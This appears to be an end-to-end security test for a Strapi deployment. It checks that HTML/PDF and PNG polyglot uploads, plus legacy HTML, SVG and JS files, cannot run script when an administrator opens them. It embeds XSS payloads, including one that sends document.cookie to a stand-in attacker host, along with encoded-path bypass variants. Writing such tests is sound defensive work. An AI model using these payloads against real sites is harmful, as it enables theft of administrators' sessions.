/**
 * End to end in Chromium: an editor (role Redaktion) uploads hostile files that pass as allowed types; an
 * administrator, signed in on Strapi's origin, opens the stored URLs. No script runs, no dialog opens, no
 * request leaves for another origin. Files stored before the upload rules (.html, .js, .svg) are opened too.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inject } from 'vitest';
import { launchChromium } from '../support/browser.ts';
import { inviteEditor, type Editor } from '../support/editor.ts';
import { png as pngSample, polyglots } from '../support/samples.ts';
import { adminJwt } from './helpers.ts';

const MARKER = 'IKZ-PWNED';
const SCRIPT = `<script>window.__pwned=1;console.log("${MARKER}");alert(1);fetch("https://angreifer.example/?c="+document.cookie)</script>`;

let browser: Browser;
let context: BrowserContext;
let editor: Editor;
const dialogs: string[] = [];
const consoleLines: string[] = [];
const foreignRequests: string[] = [];
const downloads: string[] = [];

async function editorUpload(name: string, bytes: Buffer, type: string): Promise<{ status: number; body: any }> {
  const form = new FormData();
  form.append('files', new Blob([new Uint8Array(bytes)], { type }), name);
  const response = await fetch(`${inject('strapiUrl')}/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${editor.token}` },
    body: form,
  });
  return { status: response.status, body: await response.json() };
}

function watch(page: Page) {
  const origin = new URL(inject('strapiUrl')).origin;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => consoleLines.push(message.text()));
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !url.startsWith('about:') && !url.startsWith('data:'))
      foreignRequests.push(url);
  });
  page.on('download', (download) => {
    downloads.push(download.url());
    void download.cancel();
  });
}

/** Opens a URL as the administrator would from a link; a file that downloads is fine. Returns the headers it came with. */
async function open(url: string): Promise<{ page: Page; headers: Record<string, string> | undefined }> {
  const page = await context.newPage();
  watch(page);
  let headers: Record<string, string> | undefined;
  page.on('response', (response) => {
    if (response.request().isNavigationRequest() && response.request().frame() === page.mainFrame())
      headers ??= response.headers();
  });
  await page.goto(url, { waitUntil: 'load', timeout: 15_000 }).catch((error: Error) => {
    if (!/Download is starting|net::ERR_ABORTED/.test(error.message)) throw error;
  });
  await page.waitForTimeout(500);
  // A navigation that turns into a download reports no response to the page: ask the same URL once more.
  headers ??= (await page.request.get(url, { maxRedirects: 0 })).headers();
  return { page, headers };
}

beforeAll(async () => {
  const strapiUrl = inject('strapiUrl');
  editor = await inviteEditor(strapiUrl, await adminJwt());
  browser = await launchChromium();
  context = await browser.newContext({ acceptDownloads: true });
  // The administrator's session on Strapi's origin, as the admin panel keeps it.
  await context.addCookies([{ name: 'jwtToken', value: await adminJwt(), url: strapiUrl }]);
  await context.route(
    (url) => !url.href.startsWith(strapiUrl),
    (route) => {
      foreignRequests.push(route.request().url());
      return route.abort();
    },
  );
});

/** Files this suite writes straight into Strapi's uploads folder; removed again, as other suites share that Strapi. */
const written: string[] = [];

afterAll(async () => {
  await browser?.close();
  for (const file of written) fs.rmSync(file, { force: true });
});

describe('an administrator opens what an editor uploaded', () => {
  it('refuses the editor the hostile files under their own names', async () => {
    for (const [name, bytes] of [
      ['protokoll.html', polyglots.pdfHtml()],
      ['protokoll.js', polyglots.pdfJs()],
      ['bild.svg', polyglots.svg()],
      ['bild.png', polyglots.svg()],
    ] as const) {
      const response = await editorUpload(name, bytes, 'application/octet-stream');
      expect(response.status, name).toBe(400);
      expect(response.body.error.message).toContain(`Die Datei „${name}“ wurde abgelehnt`);
    }
  });

  it('runs no script from a file that passes as PDF or PNG, nor from files stored before the rules', async () => {
    const pdf = await editorUpload(
      'protokoll.pdf',
      Buffer.concat([Buffer.from(`%PDF-1.4\n<html>${SCRIPT}\n`), polyglots.pdfHtml()]),
      'text/html',
    );
    expect(pdf.status).toBe(201);
    const png = await editorUpload(
      'karte.png',
      Buffer.concat([await polyglots.pngHtml(), Buffer.from(SCRIPT)]),
      'text/html',
    );
    expect(png.status).toBe(201);
    expect(pdf.body[0].url).toMatch(/\.pdf$/);
    expect(png.body[0].url).toMatch(/\.png$/);

    const uploads = path.join(inject('strapiTmp'), 'public', 'uploads');
    const legacy = {
      // The inline script alone would be stopped by Strapi's CSP (script-src 'self'); the same-origin one would not.
      html: `<!doctype html><html><body><h1>Protokoll</h1>${SCRIPT}<script src="/uploads/altlast_9f8e7d.js"></script><img src="https://angreifer.example/x.png"></body></html>`,
      svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT.replace(/<script>/, '<script>//<![CDATA[\n').replace('</script>', '//]]></script>')}</svg>`,
      js: `window.__pwned=1;console.log("${MARKER}");alert(1);`,
    };
    for (const [ext, content] of Object.entries(legacy)) {
      const file = path.join(uploads, `altlast_9f8e7d.${ext}`);
      written.push(file);
      fs.writeFileSync(file, content);
    }

    const strapiUrl = inject('strapiUrl');
    const urls = [
      `${strapiUrl}${pdf.body[0].url}`,
      `${strapiUrl}${png.body[0].url}`,
      `${strapiUrl}/uploads/altlast_9f8e7d.html`,
      `${strapiUrl}/%75ploads/altlast_9f8e7d.html`,
      `${strapiUrl}//uploads/altlast_9f8e7d.svg`,
      `${strapiUrl}/uploads/altlast_9f8e7d.js`,
    ];
    for (const url of urls) {
      const { page, headers } = await open(url);
      expect(headers?.['content-security-policy'], url).toMatch(/^sandbox; default-src 'none'/);
      expect(headers?.['x-content-type-options'], url).toBe('nosniff');
      expect(headers?.['content-disposition'], url).toBe(url.endsWith('.png') ? 'inline' : 'attachment');
      const pwned = await page
        .evaluate(() => (window as unknown as { __pwned?: number }).__pwned)
        .catch(() => undefined);
      expect(pwned, url).toBeUndefined();
      await page.close();
    }

    // A page elsewhere that pulls the stored script in, as an SVG or HTML file would: nosniff stops it.
    const page = await context.newPage();
    watch(page);
    await page.setContent(
      `<!doctype html><script src="${strapiUrl}/uploads/altlast_9f8e7d.js"></script><script src="${strapiUrl}${pdf.body[0].url}"></script>`,
    );
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await page.close();

    expect(dialogs).toEqual([]);
    expect(consoleLines.filter((line) => line.includes(MARKER))).toEqual([]);
    expect(foreignRequests).toEqual([]);
    // Files that are not images were offered as downloads, not rendered.
    expect(downloads.length).toBeGreaterThan(0);
  });

  it('still shows an uploaded image inline', async () => {
    const png = await editorUpload('luftbild.png', await pngSample(), 'image/png');
    expect(png.status).toBe(201);
    const { page } = await open(`${inject('strapiUrl')}${png.body[0].url}`);
    const size = await page.evaluate(() => {
      const image = document.querySelector('img');
      return image ? [image.naturalWidth, image.naturalHeight] : null;
    });
    expect(size).toEqual([8, 8]);
    await page.close();
  });
});
